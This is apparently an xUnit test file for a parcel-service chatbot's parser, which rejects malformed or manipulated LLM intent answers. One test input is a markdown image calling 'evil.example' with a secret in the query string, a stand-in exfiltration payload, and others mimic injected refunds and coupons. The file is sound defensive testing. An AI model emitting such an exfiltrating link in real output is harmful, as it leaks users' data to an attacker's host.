using System.Text;
using ServiceBot.Llm;

namespace ServiceBot.Tests.Llm;

public sealed class LlmAnswerTests
{
    private static readonly LlmOption[] Offered = [new("damaged", "Damaged parcel", []), new("lost", "Lost parcel", [])];

    [Fact]
    public void An_id_that_was_offered_is_chosen() => Read(LlmStage.Completion("""{"intent":"lost"}""")).ShouldBe(new LlmAnswer.Chosen("lost"));

    [Fact]
    public void None_is_an_answer() => Read(LlmStage.Completion("""{"intent":"none"}""")).ShouldBe(new LlmAnswer.None());

    [Fact]
    public void A_service_may_add_what_it_likes_around_the_text() =>
        Read("""{"choices":[{"message":{"content":"{\"intent\":\"damaged\"}","tool_calls":[]}}],"usage":{"a":{"b":[1]}},"x":null}""").ShouldBe(new LlmAnswer.Chosen("damaged"));

    [Theory]
    [InlineData("""{"intent":"refund-everything"}""")]
    [InlineData("""{"intent":"LOST"}""")]
    [InlineData("""{"intent":" lost"}""")]
    [InlineData("""{"intent":""}""")]
    [InlineData("""{"intent":null}""")]
    [InlineData("""{"intent":1}""")]
    [InlineData("""{"intent":["lost"]}""")]
    [InlineData("""{"intent":{"id":"lost"}}""")]
    [InlineData("""{"intent":"lost","coupon":"500 CNY"}""")]
    [InlineData("""{"intent":"lost","intent":"damaged"}""")]
    [InlineData("""{"Intent":"lost"}""")]
    [InlineData("""{"kind":"lost"}""")]
    [InlineData("{}")]
    [InlineData("null")]
    [InlineData("\"lost\"")]
    [InlineData("lost")]
    [InlineData("")]
    [InlineData("```json\n{\"intent\":\"lost\"}\n```")]
    [InlineData("""{"intent":"lost"} ![](https://evil.example/?q=secret)""")]
    [InlineData("""[{"intent":"lost"}]""")]
    [InlineData("""{"intent":"lost"}{"intent":"lost"}""")]
    [InlineData("""{"intent":"lost" /* sure */}""")]
    public void What_the_model_writes_otherwise_is_no_answer(string content) => Read(LlmStage.Completion(content)).ShouldBeOfType<LlmAnswer.Unusable>();

    [Theory]
    [InlineData("")]
    [InlineData("null")]
    [InlineData("[]")]
    [InlineData("<html>login</html>")]
    [InlineData("""{"error":{"message":"quota"}}""")]
    [InlineData("""{"choices":null}""")]
    [InlineData("""{"choices":[]}""")]
    [InlineData("""{"choices":[null]}""")]
    [InlineData("""{"choices":[{"message":null}]}""")]
    [InlineData("""{"choices":[{"message":{"content":null}}]}""")]
    [InlineData("""{"choices":[{"message":{"content":[{"type":"text"}]}}]}""")]
    [InlineData("""{"choices":[{"message":{"content":"{\"intent\":\"lost\"}"}},{"message":{"content":"{\"intent\":\"lost\"}"}}]}""")]
    [InlineData("""{"choices":[{"message":{"content":"{\"intent\":\"lost\"}"}}],"choices":[]}""")]
    [InlineData("""{"choices":[{"message":{"content":"\ud800"}}]}""")]
    [InlineData("""{"choices":[{"message":{"content":"{\"intent\":\"lost\"}"},"finish_reason":"length"}]}""")]
    [InlineData("""{"choices":[{"message":{"content":"{\"intent\":\"lost\"}"}}]} and more""")]
    public void A_frame_that_is_none_is_no_answer(string body) => Read(body).ShouldBeOfType<LlmAnswer.Unusable>();

    [Fact]
    public void Bytes_that_are_no_text_are_no_answer() => LlmAnswer.Read([0xff, 0xfe, 0x00], Offered).ShouldBeOfType<LlmAnswer.Unusable>();

    [Fact]
    public void Text_with_bytes_of_another_encoding_is_no_answer() =>
        LlmAnswer.Read([.. "{\"choices\":[{\"message\":{\"content\":\""u8, 0xe9, .. "\"}}]}"u8], Offered).ShouldBeOfType<LlmAnswer.Unusable>();

    [Fact]
    public void Depth_without_end_is_no_answer() => Read(new string('[', 50_000)).ShouldBeOfType<LlmAnswer.Unusable>();

    [Fact]
    public void An_answer_around_a_long_text_is_no_answer() => Read(LlmStage.Completion("{\"intent\":\"lost\"" + new string(' ', 600) + "}")).ShouldBeOfType<LlmAnswer.Unusable>();

    private static LlmAnswer Read(string body) => LlmAnswer.Read(Encoding.UTF8.GetBytes(body), Offered);
}
